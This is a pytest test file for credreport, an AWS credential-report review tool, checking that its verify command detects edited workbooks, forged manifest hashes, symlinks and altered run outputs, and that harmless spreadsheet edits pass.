"""Cheating with outputs is found, honest work with them is no difference, and gaps are named."""

import base64
import csv
import hashlib
import io
import json
import shutil
import zipfile
from collections.abc import Callable, Collection
from datetime import date
from operator import methodcaller
from pathlib import Path
from typing import Any

import openpyxl
import pyarrow.parquet as pq
import pytest
from openpyxl.cell import Cell
from openpyxl.utils import get_column_letter
from openpyxl.workbook import Workbook

from analyzer.errors import FAILED, PARTIAL
from analyzer.files import json_bytes, sha256
from analyzer.runs.run_folders import Run, read_record
from analyzer.sources.fetch_manifest import FETCHED_MANIFEST, SAVED
from analyzer.terms import VERSION
from analyzer.verify import has_gaps
from tests.support.builders import ROOT_FOLDER, run, saved
from tests.support.review import fill_in
from tests.support.workbooks import head_row, heads_of, needs_libreoffice, saved_by_libreoffice

SAMPLES = ROOT_FOLDER / "samples"
REPORT = SAMPLES / "status_reports_2026-03-01T09-30-00+00-00.csv"
EARLIER = SAMPLES / "earlier/status_reports_2025-12-01T09-30-00+00-00.csv"
MADE_WITH = ("--exemptions", SAMPLES / "exemptions.csv", "--owners", SAMPLES / "owners.csv")
LISTS = ("--list", SAMPLES / "exemptions.csv", "--list", SAMPLES / "owners.csv")
MARCH = "2026-03-01T09-30-00Z"
DECEMBER = "2025-12-01T09-30-00Z"
ON = date(2026, 3, 2)

Edit = Callable[[Workbook], Any]


@pytest.fixture(scope="module")
def written(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Hold two runs, the second with lists and feeds, a workbook, and its ledger."""
    folder = tmp_path_factory.mktemp("made")
    feeds = ("--also", "ocsf,parquet", "--out-dir", folder / "runs")
    assert run("export", "--from", EARLIER, *feeds).code == 0
    feeds = ("--also", "ocsf,parquet", "--out-dir", folder / "runs")
    assert run("export", "--from", REPORT, *MADE_WITH, "--exempt", "ci-*=robots", *feeds).code == 0
    book = folder / "review.xlsx"
    assert run("analyze", REPORT, *MADE_WITH, "-o", book).code == 0
    filled = folder / "filled.xlsx"
    fill_in(book, {"lena.hartwig": "delete", "soap-archive": "keep"}, on=ON, copy=filled)
    done = run("collect", filled, "--report", REPORT, *LISTS, "-o", folder / "decisions.csv")
    assert done.code == 0, done.messages
    return folder


@pytest.fixture
def folder(written: Path, tmp_path: Path) -> Path:
    return Path(shutil.copytree(written, tmp_path / "here", symlinks=True))


def verified(*arguments: object) -> tuple[int, str]:
    ended = run("verify", *arguments)
    return ended.code, ended.output.decode() + ended.messages


def of_workbook(path: Path, *more: object) -> tuple[int, str]:
    return verified(path, "--report", REPORT, *LISTS, *more)


def edited(path: Path, edit: Edit) -> Path:
    book = openpyxl.load_workbook(path)
    edit(book)
    book.save(path)
    return path


# Of workbooks


def row_of(book: Workbook, sheet: str, text: str) -> int:
    rows = book[sheet].iter_rows(values_only=True)
    return next(at for at, row in enumerate(rows, start=1) if text in map(str, row))


def column_of(book: Workbook, sheet: str, head: str) -> int:
    return heads_of(book[sheet]).index(head) + 1


def cell(sheet: str, row: str, head: str, value: object) -> Edit:
    def edit(book: Workbook) -> None:
        at = row_of(book, sheet, row), column_of(book, sheet, head)
        book[sheet].cell(*at).value = value  # type: ignore[assignment]

    return edit


def review_cell(old: str, new: str) -> Edit:
    """Return what replaces a text in the hidden cell of the Summary."""

    def edit(book: Workbook) -> None:
        (hidden,) = (
            one
            for row in book["Summary"].iter_rows()
            for one in row
            if str(one.value).startswith("credreport review: ")
        )
        assert old in str(hidden.value)
        hidden.value = str(hidden.value).replace(old, new)

    return edit


def swapped(book: Workbook) -> None:
    """Swap the exposures of two users and leave the rest."""
    sheet = book["Unused users"]
    at = column_of(book, "Unused users", "Exposure")
    top = head_row(sheet) + 1
    values = [sheet.cell(row, at).value for row in range(top, sheet.max_row + 1)]
    other = next(row for row, value in enumerate(values, top) if value != values[0])
    here, there = sheet.cell(top, at), sheet.cell(other, at)
    here.value, there.value = there.value, here.value


def copied_row(book: Workbook) -> None:
    sheet = book["Unused users"]
    sheet.append([one.value for one in sheet[5]])


def shown_otherwise(book: Workbook) -> None:
    name = "lena.hartwig"
    at = row_of(book, "Unused users", name), column_of(book, "Unused users", "Age in days")
    book["Unused users"].cell(*at).number_format = '"12"'


def second_column(book: Workbook) -> None:
    """Show other exposures in front, and leave the column of the reports behind them."""
    sheet = book["Unused users"]
    sheet.insert_cols(1)
    for row in range(1, sheet.max_row + 1):
        sheet.cell(row, 1).value = "Exposure" if row == head_row(sheet) else "none"


WORKBOOK_CHEATS: dict[str, tuple[Edit, str]] = {
    "a cell of a list": (
        cell("Unused users", "lena.hartwig", "Exposure", "none"),
        "column Exposure, cell",
    ),
    "a formula over a cell": (
        cell("Unused users", "soap-archive", "Exposure", '="none"'),
        "a formula, whose result may change",
    ),
    "a format that shows another value": (
        shown_otherwise,
        "a number format can show another value",
    ),
    "values swapped between rows": (swapped, "column G was sorted without the others"),
    "a row taken out of a list": (
        lambda book: book["Unused users"].delete_rows(8),
        "the reports put more users on its lists, 1 user: ",
    ),
    "a row added": (copied_row, "are the same user"),
    "a column taken out": (
        lambda book: book["Unused users"].delete_cols(column_of(book, "Unused users", "ARN")),
        "column ARN: the column is gone",
    ),
    "a list taken out": (
        lambda book: book.remove(book["Inactive users"]),
        "the reports put more users on its lists",
    ),
    "a second column of a name": (second_column, "the column is there twice"),
    "the limits in the hidden cell": (
        review_cell('"idle_days":90', '"idle_days":400'),
        "the reports do not put this user on these lists",
    ),
    "the form in the hidden cell": (
        review_cell('"form":2', '"form":7'),
        f"written by credreport {VERSION} (form 7), this is form 2",
    ),
    "a hidden cell of another version": (
        review_cell(f'"version":"{VERSION}"', '"version":"0.0.9","hints":[]'),
        f"written by credreport 0.0.9, this is {VERSION}",
    ),
    "the hidden cell itself": (
        review_cell('"idle_days":90', '"idle_days":-1'),
        "the hidden cell of its Summary, with what it was made by, is gone or was changed",
    ),
}


NOT_COMPARED = (
    *("a column taken out", "a second column of a name", "the hidden cell itself"),
    *("the form in the hidden cell", "a hidden cell of another version"),
)
"""These workbooks are none that can be compared."""


@pytest.mark.parametrize("way", WORKBOOK_CHEATS)
def test_a_workbook_in_which_somebody_cheated_differs_at_that_place(way: str, folder: Path) -> None:
    edit, told = WORKBOOK_CHEATS[way]
    code, text = of_workbook(edited(folder / "filled.xlsx", edit))
    assert (code, told in text) == (3 if way in NOT_COMPARED else FAILED, True), text


def test_every_way_of_cheating_with_a_run_is_tried() -> None:
    assert {way for ways in OF_ONE_RUN for way in ways} == RUN_CHEATS.keys()


def sorted_rows(sheet: str, head: str) -> Edit:
    def edit(book: Workbook) -> None:
        top = head_row(book[sheet])
        first, *rows = [[one.value for one in row] for row in book[sheet].iter_rows(min_row=top)]
        at = first.index(head)
        rows.sort(key=lambda row: str(row[at]), reverse=True)
        for number, row in enumerate(rows, start=top + 1):
            for column, value in enumerate(row, start=1):
                here = book[sheet].cell(number, column)
                here.value = value
                here.data_type = "s" if isinstance(value, str) else here.data_type

    return edit


def signed(book: Workbook) -> None:
    """Sign below a list, in the columns that people fill in."""
    sheet = book["Unused users"]
    below = sheet.max_row + 2
    for column in range(1, 8):
        sheet.cell(below, column).value = "Signed: Ann"
    sheet.cell(below + 1, column_of(book, "Unused users", "Decision")).value = "Signed: Tom"
    sheet.cell(below + 2, column_of(book, "Unused users", "Decided on")).value = "2026-03-05"
    sheet.merge_cells(start_row=below, start_column=1, end_row=below, end_column=4)


def subtotalled(book: Workbook) -> None:
    """Add the rows that a spreadsheet adds for subtotals, with formulas in every column."""
    sheet = book["Unused users"]
    for row in (6, 12):
        sheet.insert_rows(row)
        for column in range(1, sheet.max_column + 1):
            sheet.cell(row, column).value = f"=SUBTOTAL(3,A2:A{row - 1})"
        sheet.cell(row, column_of(book, "Unused users", "Decision")).value = "delete Count"


def with_column(book: Workbook) -> None:
    sheet = book["Unused users"]
    top = head_row(sheet)
    sheet.cell(top, sheet.max_column + 1).value = "My notes"
    sheet.cell(top + 1, sheet.max_column).value = "ask Tom"


def filtered(book: Workbook) -> None:
    book["Unused users"].row_dimensions[4].hidden = True


def hidden_column(book: Workbook) -> None:
    letter = get_column_letter(column_of(book, "Unused users", "Exposure"))
    book["Unused users"].column_dimensions[letter].hidden = True


def moved_column(book: Workbook) -> None:
    sheet = book["Unused users"]
    sheet.insert_cols(2)
    for row in range(1, sheet.max_row + 1):
        sheet.cell(row, 2).value = sheet.cell(row, 6).value
    sheet.delete_cols(6)


def reordered(book: Workbook) -> None:
    book.move_sheet("Unused users", 3)
    book.create_sheet("Mine")["A1"] = "x"


def list_renamed(book: Workbook) -> None:
    book["Unused users"].title = "Ann's users (1)"


def titled(book: Workbook) -> None:
    book["Inactive users"].insert_rows(1)
    book["Inactive users"]["A1"] = "For the audit"


def other_sheets(book: Workbook) -> None:
    book["All users"]["A3"] = "x"
    book.remove(book["Method"])


def formatted(book: Workbook) -> None:
    sheet = book["Unused users"]
    for row in sheet.iter_rows(min_row=head_row(sheet) + 1):
        for one in row:
            if isinstance(one, Cell) and one.is_date:
                one.number_format = 'd" de "mmmm" de "yyyy'


HONEST: dict[str, tuple[Edit, str]] = {
    "opened and saved": (lambda _: None, ""),
    "sorted": (sorted_rows("Unused users", "User"), ""),
    "signed": (signed, "rows 27, 28, 29 without an ARN"),
    "subtotalled": (subtotalled, "rows 6, 12 without an ARN"),
    "a column added": (with_column, "added column My notes"),
    "rows filtered": (filtered, ""),
    "a column hidden": (hidden_column, "Hidden, "),
    "a column moved": (moved_column, ""),
    "sheets moved and added": (reordered, "added sheet Mine"),
    "a list renamed": (list_renamed, ""),
    "a row above the heads": (titled, ""),
    "other sheets changed": (other_sheets, ""),
    "days shown in another way": (formatted, ""),
}


@pytest.mark.parametrize("way", HONEST)
def test_honest_work_with_a_workbook_is_no_difference(way: str, folder: Path) -> None:
    edit, told = HONEST[way]
    book = edited(folder / "filled.xlsx", edit)
    code, text = of_workbook(book)
    assert (code, "Reproduced: 0 differences of 34 users, 1 output" in text) == (0, True), text
    assert told in text, text
    again = run("collect", book, "--report", REPORT, *LISTS, "-o", folder / "again.csv")
    assert (again.code, len((folder / "again.csv").read_text().splitlines())) == (0, 3)


@needs_libreoffice
def test_a_workbook_that_libreoffice_saved_is_no_difference(folder: Path) -> None:
    book = folder / "filled.xlsx"
    book.write_bytes(saved_by_libreoffice(folder, book.read_bytes()))
    code, text = of_workbook(book)
    assert (code, "Reproduced: 0 differences of 34 users, 1 output" in text) == (0, True), text


def test_the_answer_says_what_is_compared_elsewhere(folder: Path) -> None:
    code, text = of_workbook(folder / "review.xlsx")
    assert (code, "its other sheets, which verify of the run compares" in text) == (0, True)
    assert "not checked: " in text


def test_a_workbook_is_verified_under_another_name_with_moved_reports(folder: Path) -> None:
    moved = folder / "elsewhere"
    moved.mkdir()
    shutil.copy(REPORT, moved / "a.csv")
    beside = ".service-credentials.json"
    shutil.copy(f"{REPORT}{beside}", moved / f"a.csv{beside}")
    shutil.copy(EARLIER, moved / "b.csv")
    book = shutil.move(folder / "filled.xlsx", folder / "mine.xlsx")
    code, text = verified(book, "--report", moved, *LISTS)
    assert code == 0, text
    assert f"as-of of {REPORT}, not proven" in text
    assert "Not proven: that the reports are AWS's" in text
    (moved / f"a.csv{beside}").unlink()
    code, text = verified(book, "--report", moved, *LISTS)
    lacking = f"reports that --report did not include: {REPORT}{beside}"
    assert (code, lacking in text) == (3, True), text


@pytest.mark.parametrize(
    ("given", "told"),
    [
        (("--report", EARLIER) + LISTS, f"that --report did not include: {REPORT}"),
        (("--report", REPORT), "exemptions.csv, SHA-256"),
    ],
)
def test_a_report_or_list_that_is_missing_is_named(
    given: tuple[object, ...], told: str, folder: Path
) -> None:
    code, text = verified(folder / "review.xlsx", *given)
    assert (code, told in text) == (3, True), text


def test_the_workbook_of_a_run_is_verified_with_the_run_as_its_report(folder: Path) -> None:
    march = folder / "runs" / MARCH
    for book in (march / "review.xlsx", shutil.copy(march / "review.xlsx", folder / "a.xlsx")):
        code, text = verified(book, "--report", march, *LISTS)
        assert (code, "0 differences of " in text) == (0, True), text


def test_an_as_of_that_aws_gives_is_proven(tmp_path: Path) -> None:
    book = tmp_path / "review.xlsx"
    run("analyze", SAMPLES / "report.json", "-o", book)
    code, text = verified(book, "--report", SAMPLES / "report.json")
    assert (code, "not proven;" in text, "as-of of" in text) == (0, False, False), text


def test_a_file_of_another_kind_is_refused(folder: Path) -> None:
    other = folder / "names.txt"
    other.write_text("ann\n")
    assert of_workbook(other)[0] == 3
    period = folder / "period.xlsx"
    run("history", EARLIER, REPORT, "--max-gap", "95", "-o", period)
    code, text = verified(period)
    assert (code, "it has no list with a column Decision" in text) == (3, True), text


def test_a_workbook_of_another_version_is_refused(folder: Path) -> None:
    book = edited(folder / "review.xlsx", review_cell(VERSION, "0.0.9"))
    code, text = of_workbook(book)
    assert (code, f"0.0.9 of credreport wrote it, and this is {VERSION}" in text) == (3, True)


def test_every_option_that_changes_a_workbook_is_kept_in_it(tmp_path: Path) -> None:
    owners, ledger = MADE_WITH[2:], tmp_path / "decisions.csv"
    accounts = tmp_path / "names.csv"
    accounts.write_text("account,name,owner\n123456789012,Main,Eva\n")
    first = tmp_path / "first.xlsx"
    run("analyze", EARLIER, "-o", first)
    fill_in(first, {"lena.hartwig": "keep", "soap-archive": "delete"}, on=date(2025, 12, 2))
    done = run("collect", first, "--report", EARLIER, "-o", ledger)
    assert done.code == 0, done.messages
    lists = ("--accounts", accounts, "--decisions", ledger) + owners
    reports = ("--report", REPORT, "--report", EARLIER) + LISTS
    limits = ("--idle-days", "45", "--grace-days", "0", "--definition", "iam-029")
    for number, options in enumerate(
        (
            limits,
            ("--standard", "cis-3.0"),
            ("--as-of", "2026-04-01", "--exempt", "a*=b=c"),
            ("--exemptions", SAMPLES / "exemptions.csv", "--rules", "root-*"),
            ("--user", "*a*", "--certain"),
        )
    ):
        book = tmp_path / f"{number}.xlsx"
        done = run("analyze", REPORT, EARLIER, *lists, *options, "-o", book)
        assert done.code == 0, done.messages
        code, text = verified(book, ledger, *reports)
        assert (code, "0 differences" in text) == (0, True), text
        code, text = verified(book, *reports)
        # Whom a ledger left out is not told from whom somebody took out: the ledger is needed.
        assert (code, "which left out 1 user" in text, "Name that ledger" in text) == (
            3,
            True,
            True,
        )


ORGANIZATION = SAMPLES / "organization"
FILTERS: tuple[tuple[object, ...], ...] = (
    (),
    ("--exposure", "access-key,none", "--min-age", "30"),
    ("--certain",),
    ("--user", "*a*", "--idle-days", "45"),
    ("--exemptions", SAMPLES / "exemptions.csv", "--exempt", "b*=robots"),
)


@pytest.mark.parametrize("filters", FILTERS, ids=lambda options: " ".join(map(str, options[:1])))
@pytest.mark.parametrize("by", ["owner", "account"])
def test_an_untouched_workbook_of_a_split_review_is_no_difference(
    by: str, filters: tuple[object, ...], tmp_path: Path
) -> None:
    """With names of accounts too, of a report with one account, and of several accounts."""
    names = tmp_path / "names.csv"
    names.write_text("account,name,owner\n123456789012,Main,Eva\n111122223333,Sandbox,Tom\n")
    owners = tmp_path / "owners.csv"
    owners.write_text("account,user,owner\n*,a*,Anna\n111122223333,*,Tom\n*,*,Eva\n")
    for at, sources in enumerate((([REPORT]), [REPORT, ORGANIZATION / "111122223333.csv"])):
        out = tmp_path / f"{at}"
        lists = ("--accounts", names, "--owners", owners)
        made = run("analyze", *sources, *lists, *filters, "--split-by", by, "-o", out)
        assert made.code == (0 if at else PARTIAL), made.messages
        books = list(out.glob("*.xlsx"))
        reports = [word for source in sources for word in ("--report", source)]
        code, text = verified(*books, *reports, *LISTS, "--list", owners)
        assert (code, "Reproduced: 0 differences" in text) == (0, True), text
        assert f"{len(books)} output" in text


def test_reports_are_found_among_copies_and_other_files_and_read_once(folder: Path) -> None:
    reports = folder / "reports"
    reports.mkdir()
    beside = ".service-credentials.json"
    for name in ("a.csv", "b.csv"):
        shutil.copy(REPORT, reports / name)
        shutil.copy(f"{REPORT}{beside}", reports / f"{name}{beside}")
    (reports / "notes.md").write_text("x")
    size = str(2 * REPORT.stat().st_size + 1000)
    given = ("--report", reports) + LISTS + ("--max-input", size)
    code, text = verified(folder / "review.xlsx", *given)
    assert (code, "0 differences of 34 users" in text) == (0, True), text


# Of runs


def changed_json(name: str, edit: Callable[[Any], Any]) -> Callable[[Path], None]:
    def change(run_folder: Path) -> None:
        path = run_folder / name
        document = json.loads(path.read_bytes())
        edit(document)
        path.write_text(json.dumps(document))

    return change


def changed_text(name: str, old: str, new: str) -> Callable[[Path], None]:
    def change(run_folder: Path) -> None:
        path = run_folder / name
        text = path.read_bytes().decode()
        assert old in text
        path.write_bytes(text.replace(old, new).encode())

    return change


def without_row(name: str) -> Callable[[Path], None]:
    def change(run_folder: Path) -> None:
        lines = (run_folder / name).read_bytes().splitlines(keepends=True)
        (run_folder / name).write_bytes(b"".join(lines[:3] + lines[4:]))

    return change


def shortened_report(run_folder: Path) -> None:
    (path,) = (run_folder / "reports").glob("*.csv")
    path.write_bytes(b"".join(path.read_bytes().splitlines(keepends=True)[:-3]))


def forged_hash(run_folder: Path) -> None:
    """Shorten the report, and write its new SHA-256 into the manifest."""
    shortened_report(run_folder)
    (path,) = (run_folder / "reports").glob("*.csv")
    name = path.relative_to(run_folder).as_posix()

    def forge(document: Any) -> None:
        for file in document["files"]:
            if file["path"] == name:
                file["sha256"] = sha256(path)

    changed_json("manifest.json", forge)(run_folder)


def recompressed(run_folder: Path) -> None:
    """Pack a workbook in another way: its parts stay."""
    path = run_folder / "review.xlsx"
    with zipfile.ZipFile(path) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    with zipfile.ZipFile(path, "w", zipfile.ZIP_STORED) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)


RUN_CHEATS: dict[str, tuple[Callable[[Path], Any], str]] = {
    "a verdict in users.csv": (
        changed_text("users.csv", "unused,never-signed-in,", "active,,"),
        "which the reports do not give",
    ),
    "a row taken out of users.csv": (without_row("users.csv"), "users.csv: a line is gone: "),
    "rows of users.csv in another order": (
        lambda folder: swap_lines(folder / "users.csv"),
        "users.csv: its lines are in another order",
    ),
    "a row taken out of findings.csv": (without_row("findings.csv"), "findings.csv: a line is"),
    "a row taken out of changes.csv": (without_row("changes.csv"), "changes.csv: a line is gone"),
    "a number in analysis.json": (
        changed_json("analysis.json", lambda document: document["counts"].pop()),
        "analysis.json, line 1: ",
    ),
    "a finding closed in a feed": (
        changed_text("findings.ocsf.json", '"New"', '"Resolved"'),
        "findings.ocsf.json, line ",
    ),
    "a table that is no table": (
        lambda folder: (folder / "users.parquet").write_text("x"),
        "users.parquet: cannot be read",
    ),
    "a column of a table": (
        lambda folder: without_column(folder / "findings.parquet"),
        "findings.parquet, column ",
    ),
    "a workbook that is none": (
        lambda folder: (folder / "review.xlsx").write_text("x"),
        "review.xlsx: cannot be read",
    ),
    "a cell of a workbook": (
        lambda folder: edited(
            folder / "review.xlsx", cell("All users", "lena.hartwig", "Verdict", "active")
        ),
        "review.xlsx, sheet All users",
    ),
    "the number of users in the manifest": (
        changed_json("manifest.json", lambda document: document["users"].update(unused=1)),
        "manifest.json, line ",
    ),
    "a parameter in the manifest": (
        changed_json(
            "manifest.json", lambda document: document["parameters"].update(grace_days=300)
        ),
        "review.xlsx, sheet Summary, cell ",
    ),
    "what met --fail-on": (
        changed_json("manifest.json", lambda document: document.update(met=["9 unused"])),
        "manifest.json, line ",
    ),
    "the size of an output in the manifest": (
        lambda folder: rewritten_digit(folder / "manifest.json", '"size": '),
        "manifest.json, line ",
    ),
    "the run that it was compared with": (
        lambda folder: rewritten_digit(folder / "manifest.json", '"compared_with": "20'),
        "manifest.json, line ",
    ),
    "the exit code": (
        changed_json("manifest.json", lambda document: document.update(exit_code=5)),
        "manifest.json, line ",
    ),
    "an output taken out with its name in the manifest": (
        lambda folder: without_output(folder, "findings.csv"),
        "findings.csv: the file is gone",
    ),
    "an output that is invented": (
        lambda folder: with_output(folder, "more.csv"),
        "more.csv: the reports give no such file",
    ),
    "a file added": (
        lambda folder: (folder / "more.txt").write_text("x"),
        "more.txt: the file was added",
    ),
    "bytes within a workbook": (
        lambda folder: overwritten(folder / "review.xlsx", at=120),
        "review.xlsx: cannot be read: ",
    ),
    "bytes in front of a workbook": (
        lambda folder: before_it(folder / "review.xlsx", b"#!/bin/sh\nexit\n"),
        "review.xlsx: the file was changed since the run",
    ),
    "a link to an output": (
        lambda folder: linked(folder / "users.csv"),
        "users.csv: a link stands in the place of the file",
    ),
    "a link to a folder": (
        lambda folder: linked(folder / "reports"),
        f"{REPORT.name}: a link stands in the place of the file",
    ),
    "a folder added": (
        lambda folder: (folder / "more" / "still more").mkdir(parents=True),
        "more/still more: the folder was added",
    ),
    "a link added": (
        lambda folder: (folder / "link").symlink_to("nowhere"),
        "/link: the file was added",
    ),
    "a report shortened": (shortened_report, "was changed since the run"),
    "a report shortened with its hash": (forged_hash, "which the reports do not give"),
    "an exemption added": (
        lambda folder: (folder / "exemptions.csv").write_text("user,reason\n*,all\n"),
        "exemptions.csv: the file was changed since the run",
    ),
    "a report added": (
        lambda folder: shutil.copy(EARLIER, folder / "reports/b.csv"),
        "b.csv: the file was added",
    ),
}


def rewritten_digit(path: Path, before: str) -> None:
    """Change one byte of a text: the first digit behind some words."""
    text = path.read_text()
    at = text.index(before) + len(before)
    path.write_text(f"{text[:at]}{(int(text[at]) + 1) % 10}{text[at + 1 :]}")


def overwritten(path: Path, at: int) -> None:
    content = path.read_bytes()
    path.write_bytes(content[:at] + b"\xff" * 8 + content[at + 8 :])


def before_it(path: Path, content: bytes) -> None:
    path.write_bytes(content + path.read_bytes())


def linked(path: Path) -> None:
    """Put a link to a file or folder in its place."""
    path.rename(elsewhere := path.parent.parent / f"elsewhere-{path.name}")
    path.symlink_to(elsewhere)


def swap_lines(path: Path) -> None:
    head, first, second, *others = path.read_bytes().splitlines(keepends=True)
    path.write_bytes(b"".join([head, second, first] + others))


def without_column(path: Path) -> None:
    table = pq.read_table(path)
    pq.write_table(table.drop_columns(table.column_names[3]), path)


def without_output(run_folder: Path, name: str) -> None:
    (run_folder / name).unlink()

    def forge(document: Any) -> None:
        document["files"] = [file for file in document["files"] if file["path"] != name]

    changed_json("manifest.json", forge)(run_folder)


def with_output(run_folder: Path, name: str) -> None:
    (run_folder / name).write_text("x")
    entry = {"path": name, "size": 1, "sha256": "0" * 64}
    changed_json("manifest.json", lambda document: document["files"].append(entry))(run_folder)


OF_ONE_RUN = (
    (
        "a verdict in users.csv",
        "a row taken out of findings.csv",
        "a row taken out of changes.csv",
        "a number in analysis.json",
        "a finding closed in a feed",
        "a table that is no table",
        "a workbook that is none",
        "a folder added",
        "a link added",
        "the number of users in the manifest",
        "a file added",
    ),
    (
        "a row taken out of users.csv",
        "a column of a table",
        "a cell of a workbook",
        "an output taken out with its name in the manifest",
        "an output that is invented",
    ),
    ("rows of users.csv in another order", "what met --fail-on"),
    ("the exit code",),
    ("the size of an output in the manifest",),
    ("the run that it was compared with",),
    ("bytes in front of a workbook", "a link to an output"),
    ("a link to a folder",),
    ("bytes within a workbook",),
    ("a parameter in the manifest",),
    ("a report shortened",),
    ("a report shortened with its hash",),
    ("an exemption added", "a report added"),
)


@pytest.mark.parametrize("ways", OF_ONE_RUN, ids=", ".join)
def test_a_run_in_which_somebody_cheated_differs_at_that_place(
    ways: Collection[str], folder: Path
) -> None:
    for way in ways:
        RUN_CHEATS[way][0](folder / "runs" / MARCH)
    ended = run("verify", folder / "runs" / MARCH, "--format", "json")
    differences = ended.document["differences"]
    text = "\n".join(f"{one['place']}: {one['message']}" for one in differences)
    assert ended.code == FAILED
    for way in ways:
        assert RUN_CHEATS[way][1] in text, way


def test_a_run_is_reproduced_with_its_feeds_and_changes(folder: Path) -> None:
    for name, users in ((MARCH, 47), (DECEMBER, 46), ("latest", 47)):
        there = list((folder / "runs" / name).iterdir())
        outputs = sum(path.is_file() for path in there) - 2 * (users == 47)  # two lists
        code, text = verified(folder / "runs" / name)
        told = f"0 differences of {users} users, {outputs} outputs; not checked: as-of" in text
        assert (code, told) == (0, True), text
    moved = Path(shutil.move(folder / "runs" / MARCH, folder / MARCH))
    code, text = verified(moved)
    assert (code, f"changes.csv and what met --fail-on: {DECEMBER} is gone" in text) == (0, True)
    assert f", {outputs - 1} outputs; not checked" in text, text


def test_a_run_is_reproduced_however_its_workbook_is_packed(folder: Path) -> None:
    before = (folder / "runs" / MARCH / "review.xlsx").stat().st_size
    written = sha256(folder / "runs" / MARCH / "review.xlsx")
    recompressed(folder / "runs" / MARCH)
    assert (folder / "runs" / MARCH / "review.xlsx").stat().st_size > before
    code, text = verified(folder / "runs" / MARCH)
    assert (code, text.count("\n2026-03-01T09-30-00Z/review.xlsx: the file was changed")) == (1, 1)
    manifest = folder / "runs" / MARCH / "manifest.json"
    packed = sha256(folder / "runs" / MARCH / "review.xlsx")
    record = json.loads(manifest.read_text().replace(written, packed))
    del record["record_sha256"]
    digest = hashlib.sha256(json_bytes(record)).hexdigest()
    manifest.write_bytes(json_bytes({**record, "record_sha256": digest}))
    code, text = verified(folder / "runs" / MARCH)
    assert (code, "0 differences of 47 users" in text) == (0, True), text


def test_a_manifest_made_anew_with_all_under_it_is_found_by_the_hash_kept_elsewhere(
    folder: Path,
) -> None:
    runs = folder / "runs"
    known = sha256(runs / MARCH / "manifest.json")
    assert verified(runs / MARCH, "--manifest", known)[0] == 0
    report = folder / REPORT.name
    report.write_bytes(b"".join(REPORT.read_bytes().splitlines(keepends=True)[:-1]))
    shutil.rmtree(runs / MARCH)
    (runs / "latest").unlink()
    run("export", "--from", report, *MADE_WITH, "--out-dir", runs)
    assert verified(runs / MARCH)[0] == 0
    code, text = verified(runs / MARCH, "--manifest", known)
    assert (code, f"and not {known}" in text) == (FAILED, True)


def test_the_hash_of_the_manifest_is_printed_when_a_run_is_written(tmp_path: Path) -> None:
    ended = run("export", "--from", EARLIER, "--out-dir", tmp_path)
    assert sha256(tmp_path / "latest/manifest.json") in ended.messages


def test_what_is_known_of_files_that_a_run_does_not_keep_is_not_checked(tmp_path: Path) -> None:
    reports = tmp_path / "reports"
    reports.mkdir()
    shutil.copy(EARLIER, reports)
    (reports / "b.csv").write_text("user,arn\n")
    (reports / "notes.md").write_text("x")
    run("export", "--from", reports, "--skip-unreadable", "--out-dir", tmp_path / "runs")
    code, text = verified(tmp_path / "runs/latest")
    assert (code, "files that were not kept" in text) == (0, True), text


def test_a_run_whose_files_are_too_large_is_refused(folder: Path) -> None:
    assert verified(folder / "runs" / MARCH, "--max-input", "100")[0] == 3


def test_a_run_of_fetched_reports_is_partial_where_aws_left_something_out(
    folder: Path,
) -> None:
    run_folder = folder / "runs" / DECEMBER
    assert not has_gaps(Run(run_folder, read_record(run_folder)))  # type: ignore[arg-type]
    entry = {"account": "123456789012", "name": "Main", "status": "fetched", "reason": ""}
    for services, expected in (("AccessDenied", True), (SAVED, False)):
        content = {"accounts": [entry | {"service_credentials": services}]}
        (run_folder / "reports" / FETCHED_MANIFEST).write_text(json.dumps(content))
        assert has_gaps(Run(run_folder, read_record(run_folder))) is expected  # type: ignore[arg-type]


def test_a_run_of_several_exemptions_in_their_order_is_reproduced(tmp_path: Path) -> None:
    exempt = ("--exempt", "z*=last", "--exempt", "a*=first", "--exempt", "*=all")
    run("export", "--from", EARLIER, *exempt, "--out-dir", tmp_path)
    code, text = verified(tmp_path / "latest")
    assert (code, "0 differences of 46 users" in text) == (0, True), text


@pytest.mark.parametrize("has_lines", [True, False], ids=["with lines", "without lines"])
def test_a_run_with_a_ledger_that_a_spreadsheet_saved_is_reproduced(
    folder: Path, *, has_lines: bool
) -> None:
    head, *rows = (folder / "decisions.csv").read_text().splitlines()
    (folder / "saved.csv").write_bytes(
        "\r\n".join([head, *(rows if has_lines else ()), ""]).encode()
    )
    runs = folder / "more"
    run("export", "--from", REPORT, "--decisions", folder / "saved.csv", "--out-dir", runs)
    code, text = verified(runs / "latest")
    assert (code, "0 differences of 47 users" in text) == (0, True), text


FORGED = {
    "a definition": lambda document: document["parameters"].update(definition="mine"),
    "a rule": lambda document: document["parameters"].update(rules=["mine"]),
    "no words": lambda document: document["parameters"].pop("fail_on"),
    "a number": lambda document: document["parameters"].update(idle_days="many"),
    "no list of origins": lambda document: document.pop("made_from"),
}


@pytest.mark.parametrize("way", FORGED)
def test_a_manifest_that_no_run_has_is_refused(way: str, folder: Path) -> None:
    changed_json("manifest.json", FORGED[way])(folder / "runs" / DECEMBER)
    code, text = verified(folder / "runs" / DECEMBER)
    assert (code, text.startswith("credreport: ")) == (3, True), text


@pytest.mark.parametrize("name", ["findings.csv", "exemptions.csv", f"reports/{REPORT.name}"])
def test_a_file_that_was_taken_out_of_a_run_is_a_difference(folder: Path, name: str) -> None:
    (path,) = (folder / "runs" / MARCH).rglob(name)
    path.unlink()
    code, text = verified(folder / "runs" / MARCH)
    assert (code, f"{name}: the file is gone" in text) == (FAILED, True), text
    assert ("its outputs, which are made from what is gone" in text) is (name != "findings.csv")


def test_a_report_of_a_run_that_was_renamed_is_gone_and_added(folder: Path) -> None:
    (path,) = (folder / "runs" / MARCH / "reports").glob("*.csv")
    path.rename(path.with_name(path.name.replace("2026-03-01", "2026-03-02")))
    code, text = verified(folder / "runs" / MARCH)
    assert (code, "2 differences" in text) == (FAILED, True), text
    assert "status_reports_2026-03-01T09-30-00+00-00.csv: the file is gone" in text
    assert "status_reports_2026-03-02T09-30-00+00-00.csv: the file was added" in text


def test_an_account_that_an_older_run_had_is_named_if_that_run_is_gone(tmp_path: Path) -> None:
    runs, reports = tmp_path / "runs", SAMPLES / "organization"
    run("export", "--from", reports / "111122223333.csv", "--out-dir", runs)
    run("export", "--from", EARLIER, "--out-dir", runs)
    later = tmp_path / "2026-04-01"
    later.mkdir()
